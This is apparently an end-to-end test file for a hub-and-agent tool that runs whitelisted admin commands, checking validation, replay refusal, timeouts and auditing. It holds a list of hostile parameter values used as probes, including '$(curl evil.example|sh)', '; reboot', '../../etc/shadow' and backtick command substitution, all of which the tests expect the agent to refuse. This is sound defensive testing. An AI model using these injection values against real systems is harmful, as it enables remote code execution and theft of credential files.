import { spawn } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import Database from "better-sqlite3";
import { afterEach, describe, expect, it } from "vitest";
import type { ActionLog, ActionRecord } from "../../shared/actions/api.ts";
import { recordedCalls, recordedSpans, sleeperPid, writeArgvRecorder } from "../agent/actions/support/argv-recorder.ts";
import { ActionRelay } from "../agent/actions/support/relay.ts";
import { DIST, freePort, getJson, useProcesses, waitFor } from "../support/processes.ts";
import { useTempDirs } from "../support/temp-dir.ts";

const tempDir = useTempDirs();
const start = useProcesses();
const relays: ActionRelay[] = [];
afterEach(async () => {
  for (const r of relays.splice(0)) await r.close();
});

const OPERATOR = "op-e2e-token-17";
const ADMIN = "adm-e2e-token-91";
const AGENT_TOKEN = "agent-e2e-token-42";

/** The built hub and agent on 127.0.0.1, the agent's catalog running recorder executables (optionally through a relay). */
async function stack(o: { relay?: boolean; confirmTimeout?: string } = {}) {
  const dir = tempDir();
  const bin = join(dir, "bin");
  const [hubPort, agentPort] = [await freePort(), await freePort()];
  const hubUrl = `http://127.0.0.1:${hubPort}`;
  const hubYaml = join(dir, "hub.yaml");
  writeFileSync(
    hubYaml,
    `listen: 127.0.0.1:${hubPort}
dataDir: ${join(dir, "hub")}
auth:
  adminTokens: [${ADMIN}]
  agents: [{ id: box-a, token: ${AGENT_TOKEN} }]
actions:
  operators: [{ name: alice, token: ${OPERATOR}, role: operator }]
${o.confirmTimeout ? `  confirmTimeout: ${o.confirmTimeout}\n` : ""}`,
  );
  const hub = start("hub/main.js", ["--config", hubYaml], {});
  await waitFor("the hub to be ready", async () => (await getJson(`${hubUrl}/readyz`)).status === 200 || undefined);
  const { body: key } = await getJson<{ publicKey: string }>(`${hubUrl}/api/v1/actions/public-key`);
  const relay = o.relay ? await ActionRelay.start(hubUrl) : undefined;
  if (relay) relays.push(relay);

  const sudo = writeArgvRecorder(bin, "sudo", { stdout: "ok\n", times: true, sleepSeconds: 0.3 });
  const zfs = writeArgvRecorder(bin, "zfs");
  const nvidiaSmi = writeArgvRecorder(bin, "nvidia-smi");
  const pgctl = writeArgvRecorder(bin, "pg_ctlcluster");
  const hang = writeArgvRecorder(bin, "hang", { sleepSeconds: 120 });
  const agentYaml = join(dir, "agent.yaml");
  writeFileSync(
    agentYaml,
    `agent: { id: box-a }
dataDir: ${join(dir, "agent")}
listen: 127.0.0.1:${agentPort}
hub: { url: "${relay?.url ?? hubUrl}", token: ${AGENT_TOKEN}, pushInterval: 1s, retryInitial: 100ms, retryMax: 1s }
collectors:
  system: { interval: 1s }
  probes: { enabled: false }
  units: { enabled: false }
  gpu: { enabled: false }
  zfs: { enabled: false }
  containers: { enabled: false }
actions:
  hubPublicKey: "${key.publicKey}"
  maxQueuedPerTarget: 4
  catalog:
    restart-unit:
      risk: caution
      argv: [${sudo}, -n, /usr/bin/systemctl, restart, "{unit}"]
      params:
        unit: { type: enum, values: [ollama-gpu.service, ollama-cpu.service, recommender.service] }
      target: "unit:{unit}"
    zfs-snapshot:
      risk: safe
      argv: [${zfs}, snapshot, { splice: "{dataset}@{name}" }]
      params:
        dataset: { type: enum, values: [nvme-fast/models] }
        name: { type: string, pattern: "vigil-[a-z0-9-]{1,40}" }
      target: "dataset:{dataset}"
    gpu-power-limit:
      risk: caution
      argv: [${nvidiaSmi}, -i, "{gpu}", -pl, "{watts}"]
      params:
        gpu: { type: integer, min: 0, max: 7 }
        watts: { type: integer, min: 100, max: 450 }
    restart-postgres:
      risk: danger
      argv: [${pgctl}, "16", main, restart]
    hang:
      risk: safe
      argv: [${hang}]
      timeout: 1s
`,
  );
  const startAgent = () => start("agent/main.js", ["--config", agentYaml], {});
  const agent = startAgent();
  await waitFor("the hub to know the agent", async () => {
    const hosts = await getJson<{ hosts: Array<{ id: string }> }>(`${hubUrl}/api/v1/hosts`);
    return hosts.body.hosts.some((h) => h.id === "box-a") || undefined;
  });

  const run = async (body: Record<string, unknown>, token = OPERATOR): Promise<{ status: number; record: ActionRecord }> => {
    const res = await fetch(`${hubUrl}/api/v1/actions`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
      body: JSON.stringify({ agentId: "box-a", waitMs: 15_000, ...body }),
      signal: AbortSignal.timeout(20_000),
    });
    return { status: res.status, record: (await res.json()) as ActionRecord };
  };
  const hubLog = async (query = "?limit=1000") => {
    const res = await fetch(`${hubUrl}/api/v1/actions${query}`, { headers: { authorization: `Bearer ${OPERATOR}` } });
    return ((await res.json()) as ActionLog).actions;
  };
  const agentAudit = () => {
    const db = new Database(join(dir, "agent", "agent.sqlite"), { readonly: true });
    try {
      return db.prepare("SELECT request_id AS requestId, status, refusal_code AS code, argv FROM action_audit ORDER BY id").all() as Array<{
        requestId: string;
        status: string;
        code: string | null;
        argv: string | null;
      }>;
    } finally {
      db.close();
    }
  };
  return { dir, hub, agent, startAgent, hubUrl, relay, run, hubLog, agentAudit, bins: { sudo, zfs, nvidiaSmi, pgctl, hang } };
}

/** Hostile values for each parameter type, each sent through the real hub to the real agent. */
const HOSTILE = [
  "ollama-gpu.service; reboot",
  "$(curl evil.example|sh)",
  "`id`",
  "../../etc/shadow",
  "--help",
  "x".repeat(300),
  "ollama\u202Egpu.service",
  "nvme-fast/models\nreboot",
];

describe("whitelisted actions, hub and agent as separate processes", () => {
  it("runs the exact argv, refuses hostile values of every parameter type, and audits every request on both sides", async () => {
    const s = await stack();
    const ok = await s.run({ action: "restart-unit", params: { unit: "ollama-gpu.service" }, reason: "model stuck in a loop" });
    expect(ok.status).toBe(200);
    expect(ok.record).toMatchObject({ status: "succeeded", exitCode: 0, stdout: "ok\n", initiator: "user:alice", role: "operator" });
    expect(ok.record.argv).toEqual([s.bins.sudo, "-n", "/usr/bin/systemctl", "restart", "ollama-gpu.service"]);
    const snap = await s.run({ action: "zfs-snapshot", params: { dataset: "nvme-fast/models", name: "vigil-before-pull" } });
    expect(snap.record.status).toBe("succeeded");
    const power = await s.run({ action: "gpu-power-limit", params: { gpu: 1, watts: "300" }, reason: "heat" });
    expect(power.record.status).toBe("succeeded");

    const targets: Array<[string, (v: string) => Record<string, unknown>, string]> = [
      ["restart-unit", (v) => ({ unit: v }), "unit"],
      ["zfs-snapshot", (v) => ({ dataset: v, name: "vigil-x" }), "dataset"],
      ["zfs-snapshot", (v) => ({ dataset: "nvme-fast/models", name: v }), "name"],
      ["gpu-power-limit", (v) => ({ gpu: 0, watts: v }), "watts"],
    ];
    for (const [action, params, name] of targets) {
      for (const value of HOSTILE) {
        const r = await s.run({ action, params: params(value), reason: "probe" });
        expect(r.status, `${action} ${name}=${JSON.stringify(value)}`).toBe(200);
        expect(r.record).toMatchObject({ status: "refused", refusedBy: "agent", refusal: { code: "PARAM_INVALID" }, argv: [] });
        expect(r.record.refusal?.message.startsWith(`${name}: `)).toBe(true);
      }
    }
    // Exactly the three good requests ran, with exactly the argv of the templates.
    expect(recordedCalls(s.bins.sudo)).toEqual([["-n", "/usr/bin/systemctl", "restart", "ollama-gpu.service"]]);
    expect(recordedCalls(s.bins.zfs)).toEqual([["snapshot", "nvme-fast/models@vigil-before-pull"]]);
    expect(recordedCalls(s.bins.nvidiaSmi)).toEqual([["-i", "1", "-pl", "300"]]);

    const unknown = await s.run({ action: "rm-rf", params: {} });
    expect(unknown.record.refusal?.code).toBe("ACTION_NOT_WHITELISTED");
    const total = 3 + targets.length * HOSTILE.length + 1;
    const hubRows = await s.hubLog();
    const agentRows = s.agentAudit();
    expect(hubRows).toHaveLength(total);
    expect(agentRows).toHaveLength(total);
    // The same requests, with the same outcome, on both sides.
    const hubById = new Map(hubRows.map((r) => [r.requestId, r]));
    for (const row of agentRows) {
      const h = hubById.get(row.requestId);
      expect(h?.status).toBe(row.status);
      expect(h?.refusal?.code ?? null).toBe(row.code);
    }
    expect(s.hub.output()).not.toContain(OPERATOR);
    expect(s.agent.output()).not.toContain(AGENT_TOKEN);
  });

  it("kills a hanging command at its timeout, and runs concurrent requests on one target one after another", async () => {
    const s = await stack();
    const t0 = performance.now();
    const hung = await s.run({ action: "hang" });
    expect(hung.record).toMatchObject({ status: "timed_out", exitCode: null, stderr: "vigil: killed (SIGKILL) after the 1000 ms timeout" });
    expect(hung.record.durationMs).toBeGreaterThanOrEqual(990);
    expect(performance.now() - t0).toBeLessThan(10_000);
    const pid = sleeperPid(s.bins.hang) as number;
    await waitFor("the hung command's child to be gone", () => {
      try {
        const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
        return stat.slice(stat.lastIndexOf(")") + 2, stat.lastIndexOf(")") + 3) === "Z" || undefined;
      } catch {
        return true;
      }
    });

    const same = await Promise.all(
      [1, 2, 3].map(() => s.run({ action: "restart-unit", params: { unit: "recommender.service" }, reason: "deploy" })),
    );
    expect(same.map((r) => r.record.status)).toEqual(["succeeded", "succeeded", "succeeded"]);
    const spans = recordedSpans(s.bins.sudo);
    expect(spans).toHaveLength(3);
    for (let i = 1; i < spans.length; i++) expect(spans[i]?.[0]).toBeGreaterThanOrEqual(spans[i - 1]?.[1] ?? Number.POSITIVE_INFINITY);
    expect(s.agentAudit().map((r) => r.status)).toEqual(["timed_out", "succeeded", "succeeded", "succeeded"]);
    expect((await s.hubLog()).map((r) => r.status).sort()).toEqual(["succeeded", "succeeded", "succeeded", "timed_out"]);
  });

  it("refuses a captured request replayed and a request that arrives expired, audited on both sides", async () => {
    const s = await stack({ relay: true });
    const relay = s.relay as ActionRelay;
    const first = await s.run({ action: "zfs-snapshot", params: { dataset: "nvme-fast/models", name: "vigil-one" } });
    expect(first.record.status).toBe("succeeded");
    const requestId = first.record.requestId;

    // The relay answers the agent's next poll with the request it captured: same bytes, valid signature.
    relay.replay(relay.captured as string);
    await waitFor("the agent to report the replay", async () => (await s.hubLog()).length === 2 || undefined);
    const [replayRow] = await s.hubLog();
    expect(replayRow).toMatchObject({ requestId, status: "refused", refusedBy: "agent", refusal: { code: "REQUEST_REPLAYED" } });
    expect(replayRow?.note).toContain("the agent received it again");
    expect(recordedCalls(s.bins.zfs)).toEqual([["snapshot", "nvme-fast/models@vigil-one"]]);

    // Held back past its expiry, the next request reaches the agent too late.
    relay.holdNextMs = 2500;
    const late = await s.run({ action: "zfs-snapshot", params: { dataset: "nvme-fast/models", name: "vigil-two" }, ttlMs: 1000 });
    expect(late.record).toMatchObject({ status: "refused", refusedBy: "agent", refusal: { code: "REQUEST_EXPIRED" } });
    expect(recordedCalls(s.bins.zfs)).toHaveLength(1);

    expect(s.agentAudit().map((r) => [r.requestId === requestId, r.status, r.code])).toEqual([
      [true, "succeeded", null],
      [true, "refused", "REQUEST_REPLAYED"],
      [false, "refused", "REQUEST_EXPIRED"],
    ]);
  });

  it("guards danger actions, refuses unknown hosts at the hub, answers quickly, and works from the built CLI", async () => {
    const s = await stack();
    const asOperator = await s.run({ action: "restart-postgres", confirm: true, reason: "minor upgrade" });
    expect(asOperator.record.refusal?.code).toBe("ADMIN_REQUIRED");
    const noConfirm = await s.run({ action: "restart-postgres", reason: "minor upgrade" }, ADMIN);
    expect(noConfirm.record.refusal?.code).toBe("CONFIRM_REQUIRED");
    const noReason = await s.run({ action: "restart-postgres", confirm: true }, ADMIN);
    expect(noReason.record.refusal?.code).toBe("REASON_REQUIRED");
    expect(recordedCalls(s.bins.pgctl)).toEqual([]);
    const dry = await s.run({ action: "restart-postgres", confirm: true, reason: "minor upgrade", dryRun: true }, ADMIN);
    expect(dry.record).toMatchObject({ status: "dry_run", argv: [s.bins.pgctl, "16", "main", "restart"] });
    expect(recordedCalls(s.bins.pgctl)).toEqual([]);
    const real = await s.run({ action: "restart-postgres", confirm: true, reason: "minor upgrade" }, ADMIN);
    expect(real.record).toMatchObject({ status: "succeeded", initiator: "user:admin", role: "admin", reason: "minor upgrade" });
    expect(recordedCalls(s.bins.pgctl)).toEqual([["16", "main", "restart"]]);

    const ghost = await s.run({ action: "restart-unit", params: { unit: "ollama-gpu.service" }, agentId: "ghost" });
    expect(ghost.status).toBe(404);
    expect((await s.hubLog("?agentId=ghost"))[0]).toMatchObject({
      status: "refused",
      refusedBy: "hub",
      refusal: { code: "HOST_NOT_FOUND" },
    });
    expect(s.agentAudit()).toHaveLength(5);

    // From the operator's request to the agent's result, through the long poll: the delivery latency.
    const times: number[] = [];
    for (let i = 0; i < 5; i++) {
      const t0 = performance.now();
      const r = await s.run({ action: "zfs-snapshot", params: { dataset: "nvme-fast/models", name: `vigil-lat-${i}` } });
      times.push(performance.now() - t0);
      expect(r.record.status).toBe("succeeded");
    }
    times.sort((a, b) => a - b);
    console.log(`action round trip (hub -> agent -> command -> hub), ms: ${times.map((t) => t.toFixed(0)).join(", ")}`);
    expect(times[2]).toBeLessThan(1000);

    const cli = await new Promise<{ code: number | null; out: string }>((resolve) => {
      const child = spawn(
        process.execPath,
        [
          join(DIST, "hub/cli/main.js"),
          "action",
          "run",
          "box-a",
          "restart-unit",
          "-p",
          "unit=ollama-cpu.service",
          "--reason",
          "swap models",
        ],
        { env: { PATH: process.env.PATH ?? "", VIGIL_HUB_URL: s.hubUrl, VIGIL_TOKEN: OPERATOR }, stdio: ["ignore", "pipe", "pipe"] },
      );
      let out = "";
      child.stdout.on("data", (d: Buffer) => (out += d.toString()));
      child.stderr.on("data", (d: Buffer) => (out += d.toString()));
      child.on("exit", (code) => resolve({ code, out }));
    });
    expect(cli.out).toMatch(/^restart-unit on box-a: succeeded \(exit 0, /);
    expect(cli.out).toContain(`argv: ${s.bins.sudo} -n /usr/bin/systemctl restart ollama-cpu.service\n`);
    expect(cli.code).toBe(0);

    // A long poll held open holds up neither end's stop.
    for (const p of [s.agent, s.hub]) {
      const t0 = performance.now();
      p.child.kill("SIGTERM");
      expect(await p.exited).toBe(0);
      expect(performance.now() - t0).toBeLessThan(8000);
    }
  });
});

describe("stopping the hub while the agent polls it", () => {
  it("stops the hub promptly though the agent's poll loop keeps its keep-alive connection busy", async () => {
    const s = await stack();
    // One action through: the agent's poll loop is running and its connection to the hub is alive.
    expect((await s.run({ action: "zfs-snapshot", params: { dataset: "nvme-fast/models", name: "vigil-stop" } })).record.status).toBe(
      "succeeded",
    );
    const t0 = performance.now();
    s.hub.child.kill("SIGTERM");
    expect(await s.hub.exited).toBe(0);
    expect(performance.now() - t0).toBeLessThan(8000);
    // The agent was told to back off, not broken: it is still running.
    expect(s.agent.child.exitCode).toBeNull();
  });
});

describe("action delivery confirmed by the agent, hub and agent as separate processes", () => {
  it("hands a request whose answer was lost on the way to the agent's next poll, where it runs once", async () => {
    const s = await stack({ relay: true, confirmTimeout: "1s" });
    const relay = s.relay as ActionRelay;
    // The hub writes the answer to the agent's poll, and the connection dies before the agent reads it.
    relay.dropNextAnswer = true;
    const t0 = performance.now();
    const r = await s.run({ action: "zfs-snapshot", params: { dataset: "nvme-fast/models", name: "vigil-lost-once" } });
    const took = performance.now() - t0;
    expect(relay.dropped).toBe(1);
    expect(r.status).toBe(200);
    expect(r.record).toMatchObject({ status: "succeeded", exitCode: 0, deliveries: 2, refusal: null });
    expect(r.record.confirmedAt).not.toBeNull();
    console.log(`request answered after a lost delivery in ${took.toFixed(0)} ms (confirmTimeout 1 s)`);
    expect(took).toBeLessThan(10_000);
    expect(recordedCalls(s.bins.zfs)).toEqual([["snapshot", "nvme-fast/models@vigil-lost-once"]]);
    expect(s.agentAudit().map((a) => [a.requestId, a.status, a.code])).toEqual([[r.record.requestId, "succeeded", null]]);
    expect(await s.hubLog()).toHaveLength(1);
  });

  it("runs a request once and reports it once when the agent, killed before its ack and result got through, gets it again", async () => {
    const s = await stack({ relay: true, confirmTimeout: "1s" });
    const relay = s.relay as ActionRelay;
    // The poll parked at the hub takes the request; the agent's next poll (its ack) and its result stop at the relay.
    await waitFor("the agent's poll to be parked at the hub", () => relay.openPolls > 0 || undefined);
    relay.holdPolls = true;
    relay.failResults = true;
    const asked = await s.run({ action: "zfs-snapshot", params: { dataset: "nvme-fast/models", name: "vigil-twice" }, waitMs: 0 });
    expect(asked.status).toBe(202);
    const requestId = asked.record.requestId;
    await waitFor(
      "the agent to run it",
      () => s.agentAudit().some((a) => a.requestId === requestId && a.status === "succeeded") || undefined,
    );
    expect((await s.hubLog())[0]).toMatchObject({ requestId, status: "delivered", deliveries: 1, confirmedAt: null });

    process.kill(-(s.agent.child.pid as number), "SIGKILL");
    await s.agent.exited;
    relay.holdPolls = false;
    relay.failResults = false;
    const restarted = s.startAgent();

    // The hub never heard from the agent about it, so it hands it over again; the agent has it, and sends its result.
    const row = await waitFor("the result at the hub", async () => {
      const [r] = await s.hubLog();
      return r?.status === "succeeded" ? r : undefined;
    });
    expect(row).toMatchObject({ requestId, deliveries: 2, exitCode: 0, refusal: null, note: null });
    expect(row.confirmedAt).not.toBeNull();
    expect(await s.hubLog()).toHaveLength(1);
    expect(recordedCalls(s.bins.zfs)).toEqual([["snapshot", "nvme-fast/models@vigil-twice"]]);
    expect(s.agentAudit().map((a) => [a.requestId, a.status, a.code])).toEqual([[requestId, "succeeded", null]]);
    expect(restarted.output()).toContain("handled before, its result is sent again");
  });
});
